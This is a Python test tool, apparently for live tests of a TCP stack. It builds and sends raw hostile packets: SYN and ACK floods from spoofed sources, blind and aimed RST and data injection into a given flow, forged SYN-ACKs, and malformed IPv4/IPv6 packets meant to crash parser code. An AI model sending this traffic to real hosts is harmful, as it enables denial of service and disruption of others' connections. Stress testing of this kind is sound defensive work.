#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile traffic for the live tests: floods and malformed packets.

  hostile.py MODE --iface IF --gwmac MAC --dst ADDR --dport PORT --count N
             [--src ADDR] [--sport P] [--seq S] [--ack A] [--seconds T]
             [--pps R] [--interval T]

Frames are built before the clock starts and written to an AF_PACKET socket
in a plain loop, so nothing is rewritten on the way out (the kernel would
fix an IPv4 length or checksum written through a raw IP socket) and the
rate is what Python can push.  Every mode is bounded by --count (and by
--seconds when given); the last line printed is
  "sent MODE N packets in S s (R pps)".

Flood modes:
  ack-flood   ACKs, random source port, seq and ack (cookie forgeries)
  blind-rst   RSTs with random seq for the 4-tuple --src/--sport
  blind-data  data segments with random (wrong) seq for that 4-tuple
  syn-flow    SYNs with random seq on that 4-tuple (a live flow's)
  syn-one     SYNs from --src, random source ports
  syn-many    SYNs from random sources in 198.18.0.0/15
Aimed (issue 13), IPv4, for the 4-tuple --src/--sport -> --dst/--dport:
  rst-at      RSTs at sequence number --seq, --interval seconds apart
  data-rst    pairs: blind data at a random seq (random ack), then an RST
              at the end of that data
  synack      a SYN-ACK acknowledging --ack with MSS 1 and window scale 14
              (--src/--sport are then the forged server, --dst/--dport
              the client)
--pps paces any mode to that many packets a second.
Malformed (a few of each variant, --count per variant):
  frag        IPv4 SYN in fragments (first only; both halves; tiny 8-byte)
  ipopts      IPv4 SYN with IP options (NOPs + record route, timestamp)
  badsum      SYN and ACK with a wrong TCP checksum
  trunc       TCP header cut short (IP length says 20 + 10 bytes)
  baddoff     data offset 0..4, and one past the segment's end
  optoverrun  option whose length runs past the header
  optzero     options of length 0 and 1 (a parser that loops on them hangs)
  flags       SYN+FIN, SYN+RST, no flags, XMAS (FIN+PSH+URG), all flags
  v6ext       IPv6 SYN behind hop-by-hop + destination options + routing
              headers, and in a fragment header (needs an IPv6 --dst)
  malformed   all of frag ipopts badsum trunc baddoff optoverrun optzero flags
"""
import argparse
import ipaddress
import os
import random
import socket
import struct
import sys
import time

from scapy.all import (IP, IPv6, TCP, Raw, IPOption_NOP, IPOption_RR,  # noqa: E402
                       IPOption_Timestamp, IPv6ExtHdrHopByHop, IPv6ExtHdrDestOpt,
                       IPv6ExtHdrRouting, IPv6ExtHdrFragment, fragment)

FIN, SYN, RST, PSH, ACK, URG = 0x01, 0x02, 0x04, 0x08, 0x10, 0x20


def csum(data):
    if len(data) & 1:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def tcp4(src, dst, sport, dport, seq, ack, flags, payload=b"", opts=b"", win=65535):
    """A correct IPv4 + TCP packet as bytes (fast path for the floods)."""
    doff = (20 + len(opts)) // 4
    th = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, doff << 4, flags, win, 0, 0)
    seg = th + opts + payload
    ph = src + dst + struct.pack("!BBH", 0, 6, len(seg))
    c = csum(ph + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:]
    tot = 20 + len(seg)
    ih = struct.pack("!BBHHHBBH4s4s", 0x45, 0, tot, random.getrandbits(16), 0x4000, 64, 6, 0,
                     src, dst)
    ih = ih[:10] + struct.pack("!H", csum(ih)) + ih[12:]
    return ih + seg


def rand_in(net):
    n = ipaddress.ip_network(net)
    return (n.network_address + random.randrange(1, n.num_addresses - 1)).packed


class Gen:
    def __init__(self, a):
        self.a = a
        self.v6 = ":" in a.dst
        self.dst = ipaddress.ip_address(a.dst).packed
        self.src = ipaddress.ip_address(a.src).packed if a.src else None

    # ---- floods (hand-built bytes, one distinct packet each) ----------
    def ack_flood(self, n):
        r = random.getrandbits
        return [tcp4(self.src, self.dst, 1024 + r(15) % 64000, self.a.dport, r(32), r(32), ACK)
                for _ in range(n)]

    def blind_rst(self, n):
        return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, random.getrandbits(32),
                     0, RST) for _ in range(n)]

    def blind_data(self, n):
        # Wrong seq and an ack near nothing we know: the payload would
        # corrupt the stream if anyone took it.
        return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, random.getrandbits(32),
                     random.getrandbits(32), ACK | PSH, payload=b"HOSTILE-INJECTED\r\n")
                for _ in range(n)]

    def syn_flow(self, n):
        mss = b"\x02\x04\x05\xb4"
        return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, random.getrandbits(32),
                     0, SYN, opts=mss) for _ in range(n)]

    def rst_at(self, n):
        return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, self.a.seq, 0, RST)
                for _ in range(n)]

    def data_rst(self, n):
        out = []
        pay = b"HOSTILE-INJECTED\r\n"
        for _ in range(n):
            seq = random.getrandbits(32)
            out.append(tcp4(self.src, self.dst, self.a.sport, self.a.dport, seq,
                            random.getrandbits(32), ACK | PSH, payload=pay))
            out.append(tcp4(self.src, self.dst, self.a.sport, self.a.dport,
                            (seq + len(pay)) % (1 << 32), 0, RST))
        return out

    def synack(self, n):
        opts = b"\x02\x04\x00\x01\x01\x03\x03\x0e"       # MSS 1, NOP, WS 14
        return [tcp4(self.src, self.dst, self.a.sport, self.a.dport, random.getrandbits(32),
                     self.a.ack, SYN | ACK, opts=opts) for _ in range(n)]

    def syn_one(self, n):
        r = random.getrandbits
        mss = b"\x02\x04\x05\xb4"
        return [tcp4(self.src, self.dst, 1024 + r(15) % 64000, self.a.dport, r(32), 0, SYN,
                     opts=mss) for _ in range(n)]

    def syn_many(self, n):
        r = random.getrandbits
        mss = b"\x02\x04\x05\xb4"
        return [tcp4(rand_in("198.18.0.0/15"), self.dst, 1024 + r(15) % 64000, self.a.dport,
                     r(32), 0, SYN, opts=mss) for _ in range(n)]

    # ---- malformed (scapy builds, then bytes are patched) --------------
    def base(self, flags="S", **kw):
        sp = random.randint(1024, 65000)
        return (IP(src=self.a.src, dst=self.a.dst, id=random.getrandbits(16)) /
                TCP(sport=sp, dport=self.a.dport, flags=flags, seq=random.getrandbits(32), **kw))

    def frag(self, n):
        out = []
        for _ in range(n):
            p = self.base(options=[("MSS", 1460), ("NOP", None), ("WScale", 7)]) / Raw(b"x" * 40)
            parts = fragment(p, fragsize=16)
            out.append(bytes(parts[0]))          # first fragment alone
            out += [bytes(f) for f in parts]     # a complete set
            tiny = fragment(self.base(), fragsize=8)
            out.append(bytes(tiny[0]))           # 8 bytes: no ports in it
            out.append(bytes(tiny[-1]))          # a later fragment alone
        return out

    def ipopts(self, n):
        out = []
        for _ in range(n):
            p = self.base()
            p[IP].options = [IPOption_NOP(), IPOption_RR(routers=["0.0.0.0"] * 3)]
            out.append(bytes(p))
            p = self.base()
            p[IP].options = [IPOption_Timestamp(flg=0, timestamp=0)]
            out.append(bytes(p))
        return out

    def badsum(self, n):
        out = []
        for flags in ("S", "A", "PA"):
            for _ in range(n):
                p = self.base(flags=flags, ack=random.getrandbits(32) if "A" in flags else 0)
                if "P" in flags:
                    p = p / Raw(b"bad checksum\r\n")
                b = bytearray(bytes(p))
                ihl = (b[0] & 15) * 4
                b[ihl + 16] ^= 0x5a
                out.append(bytes(b))
        return out

    def trunc(self, n):
        out = []
        for cut in (1, 10, 19):
            for _ in range(n):
                b = bytearray(bytes(self.base())[:20 + cut])
                struct.pack_into("!H", b, 2, len(b))
                struct.pack_into("!H", b, 10, 0)
                struct.pack_into("!H", b, 10, csum(bytes(b[:20])))
                out.append(bytes(b))
        return out

    def set_doff(self, p, doff):
        b = bytearray(bytes(p))
        ihl = (b[0] & 15) * 4
        b[ihl + 12] = (doff << 4) | (b[ihl + 12] & 15)
        fix_tcp_sum(b)
        return bytes(b)

    def baddoff(self, n):
        out = []
        for _ in range(n):
            for doff in (0, 1, 4):
                out.append(self.set_doff(self.base(), doff))
            # doff 15 (60 bytes) on a 20-byte segment, and 6 on a bare one
            out.append(self.set_doff(self.base(), 15))
            out.append(self.set_doff(self.base(), 6))
        return out

    def with_opts(self, raw_opts, flags="S"):
        # raw_opts padded to a multiple of 4 with zeros (EOL), doff to match
        pad = raw_opts + b"\0" * (-len(raw_opts) % 4)
        b = bytearray(bytes(self.base(flags=flags) / Raw(pad)))
        ihl = (b[0] & 15) * 4
        b[ihl + 12] = ((20 + len(pad)) // 4) << 4
        fix_tcp_sum(b)
        return bytes(b)

    def optoverrun(self, n):
        out = []
        for _ in range(n):
            out.append(self.with_opts(b"\x02\x04\x05\xb4\x03\x0a\x07"))   # WS len 10
            out.append(self.with_opts(b"\x01\x01\x02\x28\x05"))           # MSS len 40
            out.append(self.with_opts(b"\x08\x0a\x00\x00"))               # TS len 10 in 4
            out.append(self.with_opts(b"\x05\xff" + b"\0" * 6))           # SACK len 255
            out.append(self.with_opts(b"\x02"))                           # kind, no length
        return out

    def optzero(self, n):
        out = []
        for _ in range(n):
            out.append(self.with_opts(b"\x02\x00\x05\xb4"))               # MSS len 0
            out.append(self.with_opts(b"\x03\x01\x07\x01"))               # WS len 1
            out.append(self.with_opts(b"\xfe\x00\x00\x00"))               # unknown len 0
            out.append(self.with_opts(b"\x01\x01\x08\x00\x00\x00", flags="A"))
        return out

    def flags(self, n):
        out = []
        for fl in ("SF", "SR", "", "FPU", "FSRPAUEC", "SRF"):
            for _ in range(n):
                out.append(bytes(self.base(flags=fl)))
        return out

    def v6ext(self, n):
        if not self.v6:
            sys.exit("v6ext needs an IPv6 --dst")
        out = []
        for _ in range(n):
            sp = random.randint(1024, 65000)
            t = TCP(sport=sp, dport=self.a.dport, flags="S", seq=random.getrandbits(32))
            chain = (IPv6(src=self.a.src, dst=self.a.dst) / IPv6ExtHdrHopByHop() /
                     IPv6ExtHdrDestOpt() / IPv6ExtHdrRouting(type=0, addresses=[], segleft=0) /
                     IPv6ExtHdrDestOpt() / t)
            out.append(bytes(chain))
            fr = (IPv6(src=self.a.src, dst=self.a.dst) / IPv6ExtHdrFragment(m=0, offset=0, id=sp) /
                  TCP(sport=sp, dport=self.a.dport, flags="S", seq=random.getrandbits(32)))
            out.append(bytes(fr))               # an atomic fragment
            big = IPv6(src=self.a.src, dst=self.a.dst) / IPv6ExtHdrFragment(m=1, id=sp + 1) / \
                TCP(sport=sp, dport=self.a.dport, flags="S") / Raw(b"y" * 16)
            out.append(bytes(big))              # first of two, never completed
        return out


def fix_tcp_sum(b):
    """Recomputes the TCP checksum of IPv4 packet bytearray b over its IP length."""
    ihl = (b[0] & 15) * 4
    tot = struct.unpack_from("!H", b, 2)[0]
    seg = bytes(b[ihl:tot])
    if len(seg) < 18:
        return
    seg = seg[:16] + b"\0\0" + seg[18:]
    ph = bytes(b[12:20]) + struct.pack("!BBH", 0, 6, len(seg))
    struct.pack_into("!H", b, ihl + 16, csum(ph + seg))


MALFORMED = ["frag", "ipopts", "badsum", "trunc", "baddoff", "optoverrun", "optzero", "flags"]


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("mode")
    ap.add_argument("--iface", required=True)
    ap.add_argument("--gwmac", required=True)
    ap.add_argument("--ready-file", default="",
                    help="created once the frames are built, just before sending")
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dport", type=int, default=6379)
    ap.add_argument("--src")
    ap.add_argument("--sport", type=int)
    ap.add_argument("--count", type=int, default=10)
    ap.add_argument("--seconds", type=float, default=0,
                    help="stop sending after this long (0: send all)")
    ap.add_argument("--seq", type=lambda v: int(v, 0), default=0)
    ap.add_argument("--ack", type=lambda v: int(v, 0), default=0)
    ap.add_argument("--pps", type=float, default=0, help="packets a second (0: at once)")
    ap.add_argument("--interval", type=float, default=0,
                    help="seconds between packets (rst-at)")
    a = ap.parse_args()
    if a.count < 1 or a.count > 5000000:
        sys.exit("--count must be 1..5000000")
    if a.src is None and a.mode != "syn-many":
        sys.exit("--src needed")
    if a.mode in ("blind-rst", "blind-data", "syn-flow", "rst-at", "data-rst", "synack") and \
            not a.sport:
        sys.exit("--sport needed")
    g = Gen(a)
    modes = MALFORMED if a.mode == "malformed" else [a.mode]
    frames = []
    t0 = time.monotonic()
    for m in modes:
        fn = getattr(g, m.replace("-", "_"), None)
        if fn is None:
            sys.exit("unknown mode %s" % m)
        frames += fn(a.count)
    built = time.monotonic() - t0
    with open("/sys/class/net/%s/address" % a.iface) as f:
        smac = bytes.fromhex(f.read().strip().replace(":", ""))
    dmac = bytes.fromhex(a.gwmac.replace(":", ""))
    eth = dmac + smac + (b"\x86\xdd" if g.v6 else b"\x08\x00")
    frames = [eth + b for b in frames]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    send = s.send
    sent = 0
    if a.ready_file:
        open(a.ready_file, "w").close()
    t0 = time.monotonic()
    deadline = t0 + a.seconds if a.seconds > 0 else None
    gap = a.interval or (1.0 / a.pps if a.pps > 0 else 0)
    for i, fr in enumerate(frames):
        if gap and i:
            # Paced: packet i leaves at t0 + i * gap.
            wait = t0 + i * gap - time.monotonic()
            if wait > 0:
                time.sleep(wait)
        try:
            send(fr)
        except BlockingIOError:
            continue
        except OSError as e:   # ENOBUFS under load: count it as not sent
            if e.errno not in (105,):
                raise
            time.sleep(0.001)
            continue
        sent += 1
        if deadline and (i & 1023) == 0 and time.monotonic() > deadline:
            break
    dt = max(time.monotonic() - t0, 1e-6)
    print("built %d frames in %.2f s" % (len(frames), built))
    print("sent %s %d packets in %.2f s (%.0f pps)" % (a.mode, sent, dt, sent / dt))
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main()
